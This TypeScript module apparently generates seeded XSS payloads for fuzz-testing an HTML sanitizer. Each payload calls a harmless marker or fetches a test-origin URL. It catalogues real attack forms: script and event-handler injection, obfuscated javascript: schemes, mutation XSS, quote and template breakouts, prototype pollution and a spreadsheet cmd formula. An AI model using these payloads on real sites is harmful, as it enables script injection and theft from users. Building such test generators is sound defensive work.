import { createRandom, type Random } from '../../shared/domain/sample/random.ts';

/** What a payload tries to run, and what it tries to fetch. */
interface Aim {
	js: string;
	url: string;
}

type Family = (random: Random, aim: Aim) => string;

/** Texts that try to become code: the same seed gives the same ones, each with its own number in what it runs and fetches. */
export function makePayloads({ count, seed, origin }: { count: number; seed: number; origin: string }): string[] {
	const random = createRandom(seed);
	return Array.from({ length: count }, (_, index) => {
		const aim = { js: `fbRan(${index})`, url: `${origin}/${index}` };
		const fixed = FIXED[index];
		if (fixed) return fixed(aim);
		const family = FAMILIES[index % FAMILIES.length] as Family;
		return wrap(random, family(random, aim));
	});
}

/** Forms that have worked somewhere once, each written out. */
const FIXED: readonly ((aim: Aim) => string)[] = [
	({ js }) => `<script>${js}</script>`,
	({ js }) => `"><script>${js}</script>`,
	({ js }) => `'><script>${js}</script>`,
	({ js }) => `</textarea><script>${js}</script>`,
	({ js }) => `</title><script>${js}</script>`,
	({ js }) => `</style><script>${js}</script>`,
	({ js }) => `--><script>${js}</script>`,
	({ js }) => `<img src=x onerror=${js}>`,
	({ js }) => `<img/src='x'/onerror='${js}'>`,
	({ js }) => `<svg onload=${js}>`,
	({ js }) => `<svg><script>${js}</script></svg>`,
	({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
	({ js }) => `<body onload=${js}>`,
	({ js }) => `<details open ontoggle=${js}><summary>x</summary></details>`,
	({ js }) => `<input autofocus onfocus=${js}>`,
	({ js }) => `<video><source onerror=${js}></video>`,
	({ js }) => `<audio src=x onerror=${js}></audio>`,
	({ js }) => `<iframe src="javascript:top.${js}"></iframe>`,
	({ js }) => `<iframe srcdoc="<script>top.${js}</script>"></iframe>`,
	({ js }) => `<object data="javascript:${js}"></object>`,
	({ js }) => `<embed src="javascript:${js}">`,
	({ js }) => `<a href="javascript:${js}">read this</a>`,
	({ js }) => `<a href="java\tscript:${js}">read this</a>`,
	({ js }) => `<a href="&#106;avascript:${js}">read this</a>`,
	({ js }) => `<form action="javascript:${js}"><input type=submit></form>`,
	({ js }) => `<button form=f formaction="javascript:${js}">x</button><form id=f></form>`,
	({ js }) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
	({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
	({ js }) => `<svg></p><style><g title="</style><img src=x onerror=${js}>"></style></svg>`,
	({ js }) => `<template><script>${js}</script></template>`,
	({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
	({ url }) => `<link rel=stylesheet href="${url}">`,
	({ url }) => `<base href="${url}/"><img src=x>`,
	({ url }) => `<style>@import url(${url});</style>`,
	({ url }) => `<div style="background:url(${url})">x</div>`,
	({ url }) => `<script src="${url}"></script>`,
	({ js }) => `{{constructor.constructor('${js}')()}}`,
	({ js }) => `\${${js}}`,
	({ js }) => `javascript:${js}`,
	({ js }) => `" onmouseover="${js}`,
	({ js }) => `{"__proto__":{"innerHTML":"<img src=x onerror=${js}>"}}`,
	({ url }) => `=HYPERLINK("${url}","x")`,
	({ js }) => `<p data-pm-slice='1 1 ["paragraph",{"class":"x\\" onmouseover=\\"${js}"}]'>x</p>`,
	({ js }) => `<p data-pm-slice='0 0 ["__proto__",{"x":"<img src=x onerror=${js}>"}]'>x</p>`,
];

const HANDLED: readonly [tag: string, event: string, rest: string][] = [
	['img', 'onerror', 'src=x'],
	['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="'],
	['svg', 'onload', ''],
	['svg', 'onfocus', 'tabindex=0 autofocus'],
	['video', 'onerror', 'src=x'],
	['video', 'onloadstart', 'src=x'],
	['audio', 'onerror', 'src=x'],
	['iframe', 'onload', ''],
	['object', 'onerror', 'data=x'],
	['embed', 'onload', 'src="data:text/html,x"'],
	['style', 'onload', ''],
	['link', 'onerror', 'rel=stylesheet href=x'],
	['script', 'onerror', 'src=x'],
	['details', 'ontoggle', 'open'],
	['input', 'onfocus', 'autofocus'],
	['textarea', 'onfocus', 'autofocus'],
	['select', 'onfocus', 'autofocus'],
	['div', 'onmouseover', ''],
	['p', 'onclick', ''],
	['b', 'onpointerover', ''],
	['a', 'onfocus', 'href=# autofocus'],
	['h1', 'onmouseenter', ''],
	['li', 'onclick', ''],
	['code', 'onclick', ''],
	['blockquote', 'onmouseover', ''],
	['marquee', 'onstart', ''],
	['x', 'onanimationend', 'style="animation:x 1ms"'],
	['div', 'ontransitionend', 'style="transition:all 1ms"'],
	['div', 'onbeforeinput', 'contenteditable'],
	['body', 'onpageshow', ''],
];

const HARMLESS = ['p', 'div', 'b', 'li', 'td', 'h2', 'blockquote', 'code', 'a', 'em', 'ul', 'pre'];

const SCHEMES: readonly ((random: Random, aim: Aim) => string)[] = [
	(random, { js }) => `${spell(random, 'javascript')}:${js}`,
	(random, { js }) => `${breakUp(random, 'javascript')}:${js}`,
	(random, { js }) => `${entities(random, 'javascript')}&colon;${js}`,
	(random, { js }) => `${random.pick(['\u0001', ' ', '\n', '\u00a0', '\ufeff'])}javascript:${js}`,
	(random, { js }) => `${spell(random, 'javascript')}:/*--></title></style>*/${js}`,
	(_random, { js }) => `data:text/html;base64,${Buffer.from(`<script>top.${js}</script>`).toString('base64')}`,
	(_random, { js }) => `data:text/html,<script>parent.${js}</script>`,
	(_random, { js }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
	(random, { js }) => `${spell(random, 'vbscript')}:${js}`,
	(_random, { js }) => `javascript://example.com/%0a${js}`,
	(_random, { js }) => `view-source:javascript:${js}`,
	(_random, { js }) => `blob:javascript:${js}`,
];

const FETCHED: readonly ((url: string) => string)[] = [
	(url) => `<img src="${url}">`,
	(url) => `<img srcset="${url} 1x">`,
	(url) => `<picture><source srcset="${url}"><img></picture>`,
	(url) => `<video src="${url}" poster="${url}" autoplay></video>`,
	(url) => `<audio src="${url}" autoplay></audio>`,
	(url) => `<video><track default src="${url}"></video>`,
	(url) => `<iframe src="${url}"></iframe>`,
	(url) => `<object data="${url}"></object>`,
	(url) => `<embed src="${url}">`,
	(url) => `<input type=image src="${url}">`,
	(url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
	(url) => `<body background="${url}">`,
	(url) => `<link rel="preload" as="image" href="${url}">`,
	(url) => `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
	(url) => `<link rel="icon" href="${url}">`,
	(url) => `<p style="background-image:url('${url}')">x</p>`,
	(url) => `<p style="list-style:url(${url});cursor:url(${url}),auto;border-image:url(${url}) 1">x</p>`,
	(url) => `<style>p{background:url(${url})} @font-face{font-family:x;src:url(${url})} p{font-family:x}</style>`,
	(url) => `<svg><image href="${url}"/><use href="${url}#x"/></svg>`,
	(url) => `<svg><filter><feImage href="${url}"/></filter></svg>`,
	(url) => `<a href="${url}" ping="${url}">x</a>`,
	(url) => `<form action="${url}"><button>x</button></form>`,
	(url) => `<script type="module">import "${url}"</script>`,
	(url) => `<meta http-equiv="refresh" content="0;${url}">`,
	(url) => `![x](${url})`,
	(url) => `[x](${url})`,
	(url) => url,
];

const FAMILIES: readonly Family[] = [handler, link, script, request, mutation, breakout, known, handler];

function handler(random: Random, { js }: Aim): string {
	const [tag, event, rest] = random.pick(HANDLED);
	const code = random.pick([
		js,
		`top.${js}`,
		entities(random, js),
		`self['fbRan'](${js.slice(6, -1)})`,
		`setTimeout('${js}')`,
	]);
	const quote = /[\s'">]/.test(code) ? '"' : random.pick(['"', "'", '']);
	const gap = () => random.pick([' ', '/', '\n', '\t', '\f', ' / ', ' x ']);
	const attribute = `${spell(random, event)}${random.pick(['=', ' = ', '=\n'])}${quote}${code.replaceAll('"', '&quot;')}${quote}`;
	const parts = random.pick([true, false]) ? [rest, attribute] : [attribute, rest];
	return `<${spell(random, tag)}${gap()}${parts.join(gap())}${random.pick(['>', ' >', '>x', `>x</${tag}>`, '//', ''])}`;
}

function link(random: Random, aim: Aim): string {
	const target = random.pick(SCHEMES)(random, aim).replaceAll('"', '&quot;');
	return random.pick([
		`<a href="${target}">the contract</a>`,
		`<a target=_blank rel=opener href="${target}">the contract</a>`,
		`<a xlink:href="${target}" href="${target}"><b>the contract</b></a>`,
		`<svg><a xlink:href="${target}"><text y=20>x</text></a></svg>`,
		`<iframe src="${target}"></iframe>`,
		`<form action="${target}"><input type=submit autofocus></form>`,
		`<button formaction="${target}">x</button>`,
		`<object data="${target}"></object>`,
		`<map><area shape=default href="${target}"></map>`,
		`<base href="${target}"><a href=x>x</a>`,
		`[the contract](${target})`,
		`<${target}>`,
		target,
	]);
}

function script(random: Random, { js, url }: Aim): string {
	const tag = spell(random, 'script');
	const attributes = random.pick([
		'',
		' ',
		' x',
		'/x',
		' type=module',
		' nonce=x',
		` src="${url}"`,
		' language=javascript',
		'\n',
	]);
	const close = random.pick([`</${tag}>`, `</${tag} >`, `</${tag}/x>`, `<\\/script>`, '']);
	const body = random.pick([
		js,
		`top.${js}`,
		`//\n${js}`,
		`<!--\n${js}`,
		`import('${url}').then(()=>${js})`,
		`fetch('${url}')`,
	]);
	const one = `<${tag}${attributes}>${body}${close}`;
	return random.pick([
		one,
		`<scr${one}ipt>`,
		`<svg>${one}</svg>`,
		`<math>${one}</math>`,
		`<table>${one}</table>`,
		`<p>${one}</p>`,
	]);
}

function request(random: Random, { url }: Aim): string {
	const target = random.pick([
		url,
		url,
		url.replace('http:', ''),
		url.replace('http', 'HTTP'),
		url.replace('http', 'ws'),
	]);
	return random.pick(FETCHED)(target);
}

/** Markup that reads differently the second time. */
function mutation(random: Random, { js }: Aim): string {
	const bomb = `<img src=x onerror=${js}>`;
	const outer = random.pick([
		'style',
		'title',
		'noscript',
		'textarea',
		'xmp',
		'noembed',
		'iframe',
		'noframes',
		'script',
	]);
	const foreign = random.pick(['svg', 'math']);
	const bridge = random.pick([
		'mtext',
		'mi',
		'mo',
		'annotation-xml encoding="text/html"',
		'foreignObject',
		'desc',
		'title',
	]);
	return random.pick([
		`<${foreign}><${bridge}><${outer}>${bomb}</${outer}>`,
		`<${foreign}></p><${outer}><a id="</${outer}>${bomb}">`,
		`<${outer}><p title="</${outer}>${bomb}"></${outer}>`,
		`<form><${foreign}><${bridge}></form><form><mglyph><${outer}></${foreign}>${bomb}`,
		`<${foreign}><${bridge}><table><mglyph><${outer}><!--</${outer}>${bomb}-->`,
		`<a href="</a>${bomb}"><table><td><a>`,
		`<!--${random.pick(['', '-', '!', '>'])}><p>--!>${bomb}`,
		`<![CDATA[><${outer}>]]>${bomb}`,
		`<?xml version="1.0"?>${bomb}?>`,
		`<template><${outer}></template>${bomb}`,
		`<select><${outer}></select>${bomb}`,
		`<p id='<${outer}>'><!--'>${bomb}-->`,
		`&lt;img src=x onerror=${js}&gt;`,
		`&amp;lt;img src=x onerror=${js}&amp;gt;`,
	]);
}

/** For a place where text stands inside a quote, a template or another language. */
function breakout(random: Random, { js, url }: Aim): string {
	const end = random.pick([
		'"',
		"'",
		'`',
		'">',
		"'>",
		'-->',
		'*/',
		']]>',
		'\\"',
		'\u2028',
		'&quot;',
		'%22',
		'\\x22',
		'\\u0022',
	]);
	return random.pick([
		`${end} onmouseover=${js} x=${end}`,
		`${end} autofocus onfocus=${js} `,
		`${end};${js};//`,
		`${end}-${js}-${end}`,
		`${end})});${js}`,
		`{{${js}}}`,
		`{{constructor.constructor('${js}')()}}`,
		`\${${js}}`,
		`#{${js}}`,
		`<%= ${js} %>`,
		`{%${js}%}`,
		`{"__proto__":{"html":"${js}"},"constructor":{"prototype":{"src":"${url}"}}}`,
		`=cmd|'/c ${url}'!A0`,
		`@SUM(1)*${js}`,
		`x;background:url(${url})`,
		`expression(${js})`,
		`\u202e${js}\u202c`,
		`${js}\u0000<img src=x onerror=${js}>`,
	]);
}

/** Parts a note may hold, with more in them than it may. */
function known(random: Random, { js, url }: Aim): string {
	const tag = random.pick(HARMLESS);
	const [, event] = random.pick(HANDLED);
	const slice = JSON.stringify([
		'paragraph',
		{ [event]: js, style: `background:url(${url})`, href: `javascript:${js}` },
	]);
	return random.pick([
		`<${tag} ${event}="${js}" style="background:url(${url})">x</${tag}>`,
		`<${tag} data-pm-slice='1 1 ${slice.replaceAll("'", '&#39;')}'>x</${tag}>`,
		`<meta charset=utf-8><${tag} data-pm-slice="1 1 []" ${event}=${js}>x</${tag}>`,
		`<pre><code class='language-x" ${event}="${js}'>x</code></pre>`,
		`<ol start='1" ${event}="${js}'><li>x</li></ol>`,
		`<ol type='"><img src=x onerror=${js}>'><li>x</li></ol>`,
		`<h1 id=fieldbook name=fieldbook ${event}=${js}>x</h1>`,
		`<a href="https://example.com/" ${event}="${js}" target="x" class='"><img src=x onerror=${js}>'>x</a>`,
		`<table><tr><td ${event}=${js}>x<script>${js}</script></td></tr></table>`,
		`<table><caption><img src=x onerror=${js}></caption><tr><td>&lt;img src=x onerror=${js}&gt;</td></tr></table>`,
		`<ul><li><p><img src="${url}" onerror=${js}></p></li></ul>`,
		`<p>Dear colleague,<br><b>see <u><a href="${spell(random, 'javascript')}:${js}">here</a></u></b></p>`,
	]);
}

function wrap(random: Random, text: string): string {
	if (random.int(0, 3) > 0) return text;
	const tag = random.pick(HARMLESS);
	return random.pick([
		`<${tag}>${text}</${tag}>`,
		`Before ${text} after`,
		`<${tag} title="${text}">`,
		`<!--x-->${text}`,
		`${text}${text}`,
	]);
}

function spell(random: Random, word: string): string {
	return [...word].map((letter) => (random.int(0, 2) === 0 ? letter.toUpperCase() : letter)).join('');
}

function entities(random: Random, text: string): string {
	const forms = [
		(code: number) => `&#${code};`,
		(code: number) => `&#x${code.toString(16)};`,
		(code: number) => `&#000${code}`,
	];
	return [...text]
		.map((letter) => (random.int(0, 2) === 0 ? random.pick(forms)(letter.charCodeAt(0)) : letter))
		.join('');
}

function breakUp(random: Random, word: string): string {
	const at = random.int(1, word.length - 1);
	return word.slice(0, at) + random.pick(['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '\u0000']) + word.slice(at);
}
